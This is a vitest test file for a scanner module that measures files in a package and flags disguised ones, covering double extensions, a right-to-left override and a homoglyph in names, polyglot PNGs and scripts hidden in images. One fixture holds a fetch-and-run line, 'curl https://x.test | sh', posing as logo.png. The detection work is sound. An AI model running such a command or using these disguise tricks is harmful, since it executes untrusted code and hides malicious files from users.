import { describe, expect, it } from 'vitest';
import type { FileFact, FileKind, PackageFile } from '../../src/plugin.ts';
import { bytesFile, packageOf, readPackage, textFile } from '../../test/support/reading.ts';
import files from './index.ts';

const facts = (...list: PackageFile[]) => readPackage([files], packageOf(list)).facts as unknown as FileFact[];
const one = (path: string, text: string) => facts(textFile(path, text))[0]!;
const bin = (path: string, kind: FileKind, bytes: Buffer) => facts(bytesFile(path, bytes, kind))[0]!;
const png = Buffer.concat([
  Buffer.from('89504e470d0a1a0a', 'hex'),
  Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.from('0000000049454e44ae426082', 'hex'),
]);

describe('file facts', () => {
  it('states one for every file, with what it measures', () => {
    const [fact] = facts(textFile('scripts/.a.py', 'ab\nabcdef\n', 'python'));
    expect(fact).toMatchObject({
      kind: 'file',
      path: 'scripts/.a.py',
      type: 'text',
      language: 'python',
      size: 10,
      hidden: true,
      longestLine: 6,
      deceptive: false,
    });
    expect(fact!.entropy).toBeGreaterThan(2);
    expect(bin('x', 'binary', Buffer.from(Array.from({ length: 256 }, (_, i) => i))).entropy).toBe(8);
  });

  it('carries the codes of intake', () => {
    const pkg = packageOf([textFile('a', 'x')], {
      notes: [{ code: 'zip-ambiguous', path: 'a', detail: { en: '', zh: '' } }],
      gaps: [{ code: 'limit', path: 'a', detail: { en: '', zh: '' } }],
    });
    expect(readPackage([files], pkg).facts[0]).toMatchObject({ flags: ['limit', 'zip-ambiguous'] });
  });

  it('marks no line of the page for what concerns the archive around it', () => {
    const note = { code: 'damaged', path: '', detail: { en: '', zh: '' } };
    const pkg = packageOf([textFile('SKILL.md', '---\nname: x\n---\n'), textFile('a.py', 'pass\n')], { notes: [note] });
    const [page, script] = readPackage([files], pkg).facts;
    expect(page).toMatchObject({ flags: ['damaged'], span: { start: 0, end: 0 } });
    expect(script).toMatchObject({ flags: [], span: { start: 0, end: 4 } });
  });

  it('tells a file that is one pattern over and over, and no ordinary table or log', () => {
    for (const text of ['('.repeat(50_000), 'a=('.repeat(20_000), 'if x:\n'.repeat(9_000)])
      expect(one('a.txt', text).flags).toContain('monotonous');
    const rows = Array.from({ length: 2_000 }, (_, i) => `2026-01-${i % 28},sensor-${i % 7},${(i * 7919) % 1000}`).join(
      '\n',
    );
    const log = Array.from({ length: 2_000 }, (_, i) => `[info] request ${i} took ${(i * 31) % 97} ms`).join('\n');
    for (const text of [rows, log, '('.repeat(2_000)]) expect(one('a.txt', text).flags).not.toContain('monotonous');
  });

  it.each([
    ['invoice.pdf.sh', 'double-extension'],
    ['photo.png   .exe', 'double-extension'],
    ['notes\u202etxt.sh', 'disguised-name'],
    ['readme.md            .js', 'double-extension'],
    ['pаyload.sh', 'disguised-name'],
  ])('sees through the name %s', (name, flag) => {
    const fact = one(name, 'echo');
    expect(fact.flags).toContain(flag);
    expect(fact.deceptive).toBe(true);
  });

  it('compares the ending with the content', () => {
    expect(one('logo.png', '#!/bin/sh\ncurl https://x.test | sh\n').deceptive).toBe(true);
    expect(bin('notes.txt', 'executable', Buffer.from('7f454c46', 'hex')).deceptive).toBe(true);
    expect(bin('song.mp3', 'archive', Buffer.from('PK\x03\x04')).deceptive).toBe(true);
    expect(one('data.csv', '#!/usr/bin/env python\nimport os\n').deceptive).toBe(true);
  });

  it('finds what rides along in a picture', () => {
    const zip = Buffer.from('PK\x03\x04 a PK\x05\x06', 'latin1');
    expect(bin('a.png', 'image', Buffer.concat([png, zip, Buffer.alloc(80, 1)])).flags).toEqual([
      'polyglot',
      'trailing-data',
    ]);
    expect(
      bin('a.png', 'image', Buffer.concat([png.subarray(0, 33), Buffer.from('<script>x</script>'), png.subarray(33)]))
        .flags,
    ).toContain('script-in-binary');
  });

  it('says what nobody read, and only that', () => {
    const said = readPackage(
      [files],
      packageOf([
        bytesFile('tool', Buffer.from('7f454c46', 'hex'), 'executable'),
        bytesFile('blob.dat', Buffer.from([0, 1]), 'binary'),
        bytesFile('in.zip', Buffer.from('PK'), 'archive'),
        textFile('in.zip!/a.txt', 'x'),
        bytesFile('shut.7z', Buffer.from('7z'), 'archive'),
        bytesFile('a.png', png, 'image'),
        bytesFile('a.ttf', Buffer.from([0, 1, 0, 0]), 'font'),
        bytesFile('none', Buffer.alloc(0), 'empty'),
      ]),
    );
    expect(said.gaps.map((gap) => gap.path)).toEqual(['tool', 'blob.dat', 'shut.7z']);
    expect(said.facts).toHaveLength(8);
  });
});

describe('honest files', () => {
  it.each([
    'SKILL.md',
    'a.min.js',
    'v1.2.sh',
    'test.spec.ts',
    'app.config.js',
    'archive.tar.gz',
    'данные.txt',
    '说明.md',
    'αρχείο.py',
    'data.json',
    '.gitignore',
    'LICENSE',
  ])('%s', (path) => {
    const fact = one(path, 'text');
    expect([fact.deceptive, fact.flags]).toEqual([path.endsWith('.gz'), []]);
  });

  it('lets a plain picture and a large-file pointer pass', () => {
    expect(bin('a.png', 'image', png)).toMatchObject({ deceptive: false, flags: [] });
    expect(one('a.png', 'version https://git-lfs.github.com/spec/v1\noid sha256:1\n').deceptive).toBe(false);
  });
});

it('measures a large file in time', () => {
  const start = performance.now();
  facts(textFile('a.txt', '\n'.repeat(4_000_000)), bytesFile('b.png', Buffer.alloc(8_000_000, 'PK\x03\x04'), 'image'));
  expect(performance.now() - start).toBeLessThan(2000);
});
